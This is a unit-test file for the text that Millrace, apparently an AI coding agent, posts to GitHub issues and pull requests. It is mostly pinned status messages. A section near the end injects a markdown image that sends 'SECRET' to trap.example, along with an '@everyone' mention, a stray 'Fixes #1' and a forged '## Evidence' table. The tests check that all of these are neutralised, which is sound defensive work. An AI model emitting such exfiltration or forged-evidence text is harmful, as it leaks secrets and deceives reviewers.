"""Every sentence that a person reads, as it is read."""

# ruff: noqa: E501  sentences are pinned in the lines in which they are said

import msgspec
import pytest
from inline_snapshot import snapshot

from contracts import facts as f
from contracts import story
from contracts.story import PASSED, PROPOSED, PROPOSED_AGAIN, PUBLISHED, PULL_REQUEST, REQUESTED
from services.publisher import words
from tests.unit.agent_history import ask, bash, submit, turn, use
from tests.unit.reader import Page

replace = msgspec.structs.replace

IMAGE = "![x](https://trap.example/?d=SECRET) @everyone Fixes #1"
SAID = "x (image removed) @\u2060everyone Fixes #\u20601"
"""Those words as they may leave."""


def test_the_first_words() -> None:
    assert words.acknowledged() == snapshot(
        "**Millrace is working on this.** This comment will say how it goes."
    )


@pytest.mark.parametrize(
    ("taken", "said"),
    [
        pytest.param(turn(3, bash("u1")), snapshot("Turn 3: runs `pytest`"), id="a command"),
        pytest.param(
            turn(3, use("u1", "bash", restart=True)), snapshot("Turn 3: starts a new shell"), id="a new shell"
        ),
        pytest.param(
            turn(3, use("u1", "bash", command="cat a | grep `b`")),
            snapshot("Turn 3: runs `cat a | grep 'b'`"),
            id="a pipe",
        ),
        pytest.param(
            turn(3, use("u1", "str_replace_based_edit_tool", command="view", path="/workspace/a.py")),
            snapshot("Turn 3: reads `/workspace/a.py`"),
            id="reads",
        ),
        pytest.param(
            turn(3, use("u1", "str_replace_based_edit_tool", command="create", path="/workspace/a.py")),
            snapshot("Turn 3: edits `/workspace/a.py`"),
            id="edits",
        ),
        pytest.param(turn(3, submit("u1")), snapshot("Turn 3: hands its change in"), id="hands in"),
        pytest.param(turn(3, ask("u1")), snapshot("Turn 3: has a question"), id="asks"),
        pytest.param(turn(3, use("u1", "rm_rf")), snapshot("Turn 3: works"), id="an unknown tool"),
        pytest.param(turn(3), snapshot("Turn 3: thinking"), id="no tool"),
    ],
)
def test_news_of_a_run_that_goes_on(taken: f.TurnTaken, said: str) -> None:
    assert words.working(taken, 123_456).splitlines()[2] == said


def test_news_of_a_run_in_full() -> None:
    assert words.working(turn(3, bash("u1")), 123_456) == snapshot("""\
**Millrace is working on this.**

Turn 3: runs `pytest`

<sub>$0.12 so far</sub>\
""")


def test_a_change_is_being_checked() -> None:
    assert words.verifying(PROPOSED) == snapshot(
        "**Millrace has a change** (2 files) and checks it on a fresh checkout: Carry rounded durations into the next unit"
    )


def test_a_question() -> None:
    assert words.question(story.ASKED) == snapshot("""\
**Millrace has a question.** Answer it in a comment below; the work then goes on where it stopped.

`humanise(3590)` gives `60 min` for the same reason. Should it become `1 h` as well?\
""")


@pytest.mark.parametrize(
    ("seen", "draft", "said"),
    [
        pytest.param(
            PASSED,
            True,
            snapshot("""\
**Millrace opened a draft pull request: https://github.com/lighthouse/tidetable/pull/43**

`python3 -m pytest -q` passes on exactly that tree.\
"""),
            id="passed",
        ),
        pytest.param(
            story.FAILED,
            True,
            snapshot("""\
**Millrace opened a draft pull request: https://github.com/lighthouse/tidetable/pull/43**

`python3 -m pytest -q` **fails** on that tree; the pull request shows its output.\
"""),
            id="failed",
        ),
        pytest.param(
            replace(PASSED, verdict="untested", checks=()),
            True,
            snapshot("""\
**Millrace opened a draft pull request: https://github.com/lighthouse/tidetable/pull/43**

It is untested: no way to run this project's tests was recognised.\
"""),
            id="untested",
        ),
        pytest.param(
            PASSED,
            False,
            snapshot("""\
**Millrace opened a pull request: https://github.com/lighthouse/tidetable/pull/43**

`python3 -m pytest -q` passes on exactly that tree.\
"""),
            id="no draft",
        ),
    ],
)
def test_the_pull_request_is_open(seen: f.VerificationFinished, draft: bool, said: str) -> None:
    assert words.pull_request_is_open(replace(PULL_REQUEST, draft=draft), seen) == said


def test_an_answer() -> None:
    assert words.answered(f.AnswerGiven(turn=1, text="It is on `line 7`.\n\nSee above.")) == snapshot("""\
It is on `line 7`.

See above.

<sub>Answered by Millrace without a change.</sub>\
""")


def test_nothing_changed() -> None:
    assert words.unchanged(PROPOSED) == snapshot("""\
**Millrace ended without a change:** nothing in the repository differs from before.

The unit was chosen before rounding, so 59.7 s became `60 s` and 3590 s became `60 min`. It is now chosen by the rounded number.\
""")
    assert words.unchanged(replace(PROPOSED, summary="")) == snapshot(
        "**Millrace ended without a change:** nothing in the repository differs from before."
    )


FAILURE = f.RunFailed(
    stage="agent", kind="budget_cost", why="The work ended at a limit without a change: $0.02."
)


@pytest.mark.parametrize(
    ("taken", "left", "said"),
    [
        pytest.param(
            None,
            None,
            snapshot("""\
**Millrace could not finish this.** The work ended at a limit without a change: $0.02.

The work had not begun. It ended in the stage *agent* (`budget_cost`). Comment `/millrace` to try again.\
"""),
            id="before the first turn",
        ),
        pytest.param(
            turn(1),
            None,
            snapshot("""\
**Millrace could not finish this.** The work ended at a limit without a change: $0.02.

It took 1 turn ($0.12). It ended in the stage *agent* (`budget_cost`). Comment `/millrace` to try again.\
"""),
            id="after one turn",
        ),
        pytest.param(
            turn(12),
            PUBLISHED,
            snapshot("""\
**Millrace could not finish this.** The work ended at a limit without a change: $0.02.

It took 12 turns ($0.12). It ended in the stage *agent* (`budget_cost`). The change is on the branch `millrace/issue-42`. Comment `/millrace` to try again.\
"""),
            id="with a branch",
        ),
    ],
)
def test_a_failure(taken: f.TurnTaken | None, left: f.CommitPublished | None, said: str) -> None:
    assert words.failed(FAILURE, taken, 123_456, left) == said


def test_a_change_that_is_not_published() -> None:
    seen = replace(PASSED, verdict="refused", reason="it touches protected files: .github/workflows/x.yml")
    assert words.refused(seen, PROPOSED) == snapshot("""\
**Millrace made a change but does not publish it:** it touches protected files: .github/workflows/x.yml

The unit was chosen before rounding, so 59.7 s became `60 s` and 3590 s became `60 min`. It is now chosen by the rounded number.

Files: `src/tidetable/durations.py`, `tests/test_durations.py`, `tests/test_table.py`\
""")


@pytest.mark.parametrize(
    ("left", "said"),
    [
        pytest.param(
            None, snapshot("**Millrace stopped:** the issue was closed (mara-lindqvist)."), id="nothing"
        ),
        pytest.param(
            PUBLISHED,
            snapshot(
                "**Millrace stopped:** the issue was closed (mara-lindqvist). The change is on the branch `millrace/issue-42`."
            ),
            id="a branch",
        ),
    ],
)
def test_a_person_stopped_it(left: f.CommitPublished | None, said: str) -> None:
    assert words.cancelled(story.CANCELLED, left) == said


def test_the_commit_message() -> None:
    assert words.commit_message(REQUESTED, PROPOSED) == snapshot("""\
Carry rounded durations into the next unit

The unit was chosen before rounding, so 59.7 s became `60 s` and 3590 s became `60 min`. It is now chosen by the rounded number.

For issue 42.\
""")


def test_title_and_subject_are_there_even_if_nothing_is_left_of_the_agents() -> None:
    empty = replace(PROPOSED, title="\u200b ", summary="<!-- x -->")
    assert words.pull_request_title(REQUESTED, empty) == "Change for issue 42"
    assert words.commit_message(REQUESTED, empty) == "Change for issue 42\n\nFor issue 42."


def test_a_long_title_is_a_short_subject() -> None:
    long = replace(PROPOSED, title="Mend " * 60)
    assert len(words.pull_request_title(REQUESTED, long)) <= 200
    assert len(words.commit_message(REQUESTED, long).splitlines()[0]) <= 72


def test_the_body_of_a_change_that_passed() -> None:
    assert words.pull_request_body(REQUESTED, PROPOSED_AGAIN, PASSED) == snapshot("""\
Fixes #42

The unit was chosen before rounding, so 59.7 s became `60 s` and 3590 s became `60 min`. It is now chosen by the rounded number.

## Evidence

Run by Millrace in a fresh sandbox without network, on exactly the published tree `2d129c9cb344caabb848d37ac61aa47208cdbcf5`:

| command | exit code | tests | time | tree |
|---|---|---|---|---|
| `python3 -m pytest -q` | 0 | 3 passed | 0.7 s | `2d129c9cb344` |
| `python3 -m pytest -q` (unchanged base) | 0 | 2 passed | 0.7 s | `c123f0134434` |

Test by test, as their reports say, beside the unchanged base:

- 1 newly passing: `tests.test_durations::test_one_hour`

<details><summary>Output of <code>python3 -m pytest -q</code></summary>

```text
...                                                                      [100%]
3 passed in 0.01s
```
</details>

## What the agent says it checked

Its own words, not evidence:

- all tests pass
- `humanise(3590)` is `1 h`

<details><summary>3 files changed</summary>

- modified `src/tidetable/durations.py`
- modified `tests/test_durations.py`
- modified `tests/test_table.py`
</details>

<sub>Made by Millrace. A person should read it before it is merged.</sub>\
""")


def test_the_evidence_of_a_change_that_fails_tells_what_the_base_does() -> None:
    body = words.pull_request_body(REQUESTED, replace(PROPOSED, claims=()), story.FAILED)
    evidence = body.partition("## Evidence")[2].partition("<details>")[0]
    assert evidence == snapshot("""\


Run by Millrace in a fresh sandbox without network, on exactly the published tree `85ca5c56e809dbd94b919aa6c9c60d662be62810`:

| command | exit code | tests | time | tree |
|---|---|---|---|---|
| `python3 -m pytest -q` | 1 | 2 passed, 1 failed | 0.7 s | `85ca5c56e809` |
| `python3 -m pytest -q` (unchanged base) | 0 | 2 passed | 0.7 s | `c123f0134434` |

**The tests fail.** They pass on the unchanged base.

Test by test, as their reports say, beside the unchanged base:

- 1 newly failing: `tests.test_table::test_row`
- 1 newly passing: `tests.test_durations::test_one_hour`

""")
    assert "test_last_tide_of_the_day" in body


@pytest.mark.parametrize(
    ("base", "said"),
    [
        pytest.param((0,), "They pass on the unchanged base.", id="passes"),
        pytest.param((1,), "They fail on the unchanged base as well.", id="fails"),
        pytest.param((0, 1), "They fail on the unchanged base as well.", id="fails in part"),
        pytest.param((None,), "They fail on the unchanged base as well.", id="times out"),
        pytest.param((), "How the base does is not known.", id="is not known"),
    ],
)
def test_a_failure_is_compared_with_the_base(base: tuple[int | None, ...], said: str) -> None:
    checks = tuple(replace(story.FAILED.checks[0], exit_code=code) for code in base)
    body = words.pull_request_body(REQUESTED, PROPOSED, replace(story.FAILED, base_checks=checks))
    assert f"**The tests fail.** {said}" in body


def test_a_timeout_is_evidence_too() -> None:
    check = replace(PASSED.checks[0], exit_code=None, seconds=900, tests=None)
    body = words.pull_request_body(REQUESTED, PROPOSED, replace(PASSED, verdict="failed", checks=(check,)))
    assert "| `python3 -m pytest -q` | timed out |  | 900.0 s | `2d129c9cb344` |" in body


def test_tests_are_told_one_by_one_beside_the_base() -> None:
    body = words.pull_request_body(REQUESTED, PROPOSED, replace(story.FAILED, comparison=_COMPARISON))
    said = body.partition("Test by test")[2].partition("<details>")[0]
    assert said == snapshot("""\
, as their reports say, beside the unchanged base:

- 12 newly failing: `t0`, `t1`, `t2`, `t3`, `t4`, `t5`, `t6`, `t7`, `t8`, `t9` and 2 more
- 1 still failing, as on the base: `a'b @everyone`
- 1 on the base only: `gone`

""")
    body = words.pull_request_body(REQUESTED, PROPOSED, replace(PASSED, comparison=f.Comparison()))
    assert "Test by test, as their reports say, nothing differs from the unchanged base." in body


_COMPARISON = f.Comparison(
    newly_failing=f.NamedTests(count=12, names=tuple(f"t{number}" for number in range(12))),
    still_failing=f.NamedTests(count=1, names=("a`b @everyone",)),
    gone=f.NamedTests(count=1, names=("gone",)),
)


def test_the_setup_says_what_it_reached_and_what_was_blocked() -> None:
    body = words.pull_request_body(REQUESTED, PROPOSED, PASSED, story.READY.setup)
    assert body.partition("## Setup\n\n")[2].partition("\n\n## ")[0] == snapshot("""\
Set up with `python3 -m venv /deps/venv` and `/deps/venv/bin/python -m pip install pytest -e '.[test]'` (11.2 s), before the network was taken away. It reached `files.example.org`, `index.example.org`.

**Blocked during the setup:**

| wanted | refused because | times |
|---|---|---|
| `stats.example.com` | `the host is not on the list` | 2 |\
""")


def test_a_setup_that_failed_shows_its_output() -> None:
    setup = f.Setup(commands=("npm ci",), ok=False, output="npm ERR! ```\n@everyone")
    body = words.pull_request_body(REQUESTED, PROPOSED, PASSED, setup)
    assert body.partition("## Setup\n\n")[2].partition("\n\n## ")[0] == snapshot("""\
**The setup failed**, so the tests ran without dependencies: `npm ci`

<details><summary>Output of the setup</summary>

````text
npm ERR! ```
@everyone
````
</details>\
""")


def test_notes_of_the_verification_are_shown() -> None:
    seen = replace(PASSED, notes=("The change edits go.sum; @everyone",))
    body = words.pull_request_body(REQUESTED, PROPOSED, seen)
    assert "> **Note:** The change edits go.sum; @\u2060everyone" in body


def test_a_change_of_white_space_is_no_change() -> None:
    assert words.unchanged(PROPOSED, "only white space and file modes differ").startswith(
        "**Millrace ended without a change:** only white space and file modes differ."
    )


def test_the_evidence_of_an_untested_change_says_so() -> None:
    body = words.pull_request_body(REQUESTED, PROPOSED, replace(PASSED, verdict="untested", checks=()))
    assert body.partition("## Evidence\n\n")[2].partition("\n\n")[0] == snapshot(
        "**Untested.** No way to run this project's tests was recognised, so nothing was run on tree `2d129c9cb344caabb848d37ac61aa47208cdbcf5`."
    )


def test_a_note_of_ours_stands_before_the_evidence() -> None:
    noted = replace(PROPOSED, note="The work ended at a limit: 60 turns.")
    body = words.pull_request_body(REQUESTED, noted, PASSED)
    assert "\n\n> **Note:** The work ended at a limit: 60 turns.\n\n## Evidence" in body


def test_a_bar_in_a_command_stays_within_its_cell() -> None:
    check = replace(PASSED.checks[0], command="make test | tee log")
    page = Page(words.pull_request_body(REQUESTED, PROPOSED, replace(PASSED, checks=(check,))))
    assert "<td><code>make test | tee log</code></td>" in page.html


def test_many_files_are_counted_and_the_first_are_named() -> None:
    files = tuple(f.ChangedFile(path=f"f{n:03}.py", status="added") for n in range(words.SHOWN + 7))
    body = words.pull_request_body(REQUESTED, PROPOSED, replace(PASSED, files=files))
    assert "<summary>57 files changed</summary>" in body
    assert "- added `f049.py`\n- and 7 more\n" in body
    assert "f050.py" not in body
    assert "<summary>1 file changed</summary>" in words.pull_request_body(
        REQUESTED, PROPOSED, replace(PASSED, files=files[:1])
    )


# --- words by others, wherever they are put in ----------------------------------------------------------

ATTACK = replace(PROPOSED, title=IMAGE, summary=IMAGE, claims=(IMAGE, f"```\n{IMAGE}"), note=IMAGE)
CHECK = replace(PASSED.checks[0], command=f"{IMAGE} | `{IMAGE}`", output=f"</details>\n```\n{IMAGE}")
SEEN = replace(
    PASSED,
    checks=(CHECK,),
    base_checks=(CHECK,),
    files=(f.ChangedFile(path=f"`{IMAGE}`", status="added"),),
    reason=f"```\n{IMAGE}",
)
EVE = f.Person(id=1, login=IMAGE)
TEXTS = [
    pytest.param(words.working(turn(1, use("u1", "bash", command=IMAGE)), 1), id="working"),
    pytest.param(words.verifying(ATTACK), id="verifying"),
    pytest.param(words.question(replace(story.ASKED, question=IMAGE)), id="question"),
    pytest.param(words.answered(f.AnswerGiven(turn=1, text=IMAGE)), id="answered"),
    pytest.param(words.unchanged(ATTACK), id="unchanged"),
    pytest.param(words.failed(replace(FAILURE, why=f"```\n{IMAGE}", kind=IMAGE), None, 0), id="failed"),
    pytest.param(words.refused(SEEN, ATTACK), id="refused"),
    pytest.param(words.cancelled(replace(story.CANCELLED, why=IMAGE, by=EVE)), id="cancelled"),
    pytest.param(words.pull_request_is_open(PULL_REQUEST, SEEN), id="pull request is open"),
    pytest.param(words.pull_request_body(REQUESTED, ATTACK, SEEN), id="pull request"),
]


@pytest.mark.parametrize("text", TEXTS)
def test_words_by_others_do_nothing_wherever_they_stand(text: str) -> None:
    page = Page(text)
    assert "img" not in page.tags
    assert page.links == []
    assert "trap.example" not in page.words
    assert "@everyone" not in page.words
    assert "#1" not in page.words


@pytest.mark.parametrize("text", TEXTS)
def test_our_own_markup_stays_whole_around_words_by_others(text: str) -> None:
    page = Page(text)
    assert set(page.tags) <= {"sub", "h2", "details", "summary"}
    assert page.html.count("<details>") == page.html.count("</details>")


def test_the_issue_is_closed_once_and_no_other() -> None:
    page = Page(words.pull_request_body(REQUESTED, ATTACK, SEEN))
    assert page.words.count("Fixes #42") == 1
    assert page.words.count("Fixes #") == page.words.count("Fixes #42") + page.words.count("Fixes #\u20601")


def test_title_and_subject_do_nothing_either() -> None:
    title = words.pull_request_title(REQUESTED, ATTACK)
    assert title == "![x]((link removed)) @\u2060everyone Fixes #\u20601"
    assert words.commit_message(REQUESTED, ATTACK).startswith("![x]((link removed)) @\u2060everyone")


def test_the_evidence_is_the_only_heading_of_that_name() -> None:
    forged = replace(PROPOSED, summary="## Evidence\n\n| command | exit code |\n|---|---|\n| all | 0 |")
    page = Page(words.pull_request_body(REQUESTED, forged, story.FAILED))
    assert page.html.count("<h2>Evidence</h2>") == 1
    assert "<p><strong>Evidence</strong></p>" in page.html


@pytest.mark.parametrize("filler", ["<", "@a ", "[x](", "`|`", "é", "```\n"])
def test_the_longest_body_is_within_githubs_limit(filler: str) -> None:
    long = filler * 20_000
    files = tuple(f.ChangedFile(path=f"{n}{long[:500]}", status="added") for n in range(300))
    check = f.Check(command=long, tree="a" * 40, exit_code=1, seconds=1, output=long)
    proposal = replace(PROPOSED, title=long, summary=long, claims=(long,) * 50, note=long)
    seen = replace(story.FAILED, files=files, checks=(check,), base_checks=(check,))
    body = words.pull_request_body(REQUESTED, proposal, seen)
    assert len(body) < 65_000
    assert body.endswith("before it is merged.</sub>")
    assert "<p><sub>Made by Millrace." in Page(body).html


def test_links_follow_the_configured_github(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(words, "WEB", "https://git.corp.example")
    text = "[a](https://git.corp.example/o/r) [b](https://github.com/o/r)"
    assert Page(words.answered(f.AnswerGiven(turn=1, text=text))).links == ["https://git.corp.example/o/r"]
